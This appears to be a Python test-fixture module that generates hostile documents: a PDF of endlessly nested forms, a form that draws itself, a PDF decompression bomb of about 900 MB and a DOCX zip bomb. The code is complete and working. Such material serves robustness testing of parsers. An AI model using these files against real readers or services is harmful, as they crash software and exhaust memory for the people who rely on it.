"""Files that break whoever reads them carelessly: PDFs that never end or swell, a zip bomb."""

from __future__ import annotations

import io
import zipfile
import zlib

_FORM = (
    "<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << {names} >> >> /Length {length} >>"
)


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    out = io.BytesIO(b"")
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    start = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.writelines(f"{place:010} 00000 n \n".encode() for place in places)
    out.write(f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


def _stream(head: str, words: bytes) -> bytes:
    return head.encode() + b"\nstream\n" + words + b"\nendstream"


def _page(first: int, content: bytes) -> list[bytes]:
    """Catalogue, pages, a page that draws the form numbered `first`, and the page's content."""
    resources = f"<< /XObject << /F {first} 0 R >> >>"
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources {resources} >>".encode(),
        _stream(f"<< /Length {len(content)} >>", content),
    ]


def endless_pdf(levels: int = 14, times: int = 20) -> bytes:
    """A page of a few kilobytes that draws a form 20 times, which draws another one 20 times, and so on."""
    objects = _page(5, b"/F Do")
    for level in range(levels):
        last = level == levels - 1
        words = b"0 0 m 9 9 l S" if last else b"/F Do " * times
        names = "" if last else f"/F {6 + level} 0 R"
        objects.append(_stream(_FORM.format(names=names, length=len(words)), words))
    return _pdf(objects)


def tail_swallowing_pdf() -> bytes:
    """A form that draws itself."""
    words = b"/F Do " * 2
    return _pdf([*_page(5, b"/F Do"), _stream(_FORM.format(names="/F 5 0 R", length=len(words)), words)])


def swelling_pdf(megabytes: int = 900) -> bytes:
    """A page whose content is megabytes of blanks once it is unpacked: the reader dies for want of memory."""
    packed = zlib.compress(zlib.compress(b" " * (megabytes * 1_000_000), 9), 9)
    objects = _page(5, b"/F Do")
    objects[3] = _stream(f"<< /Filter [/FlateDecode /FlateDecode] /Length {len(packed)} >>", packed)
    return _pdf([*objects, _stream(_FORM.format(names="", length=1), b" ")])


def zip_bomb(megabytes: int = 70) -> bytes:
    """A DOCX of some kilobytes whose body is many megabytes of blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (megabytes * 1_000_000))
    return out.getvalue()
